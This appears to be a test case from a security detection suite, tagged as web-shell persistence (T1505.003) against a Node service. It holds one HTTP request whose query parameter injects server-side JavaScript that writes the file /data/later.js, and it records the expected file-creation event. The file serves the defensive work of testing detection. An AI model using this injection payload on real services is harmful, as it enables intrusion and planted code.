# title: a service writes a program for later itself
# attack: T1505.003
# workload: node
# through: http
# shows: file create /data/later.js by node
GET http://127.0.0.1:3000/total?of=(require(%27fs%27).writeFileSync(%27%2Fdata%2Flater.js%27%2C%271%27)%2C1)
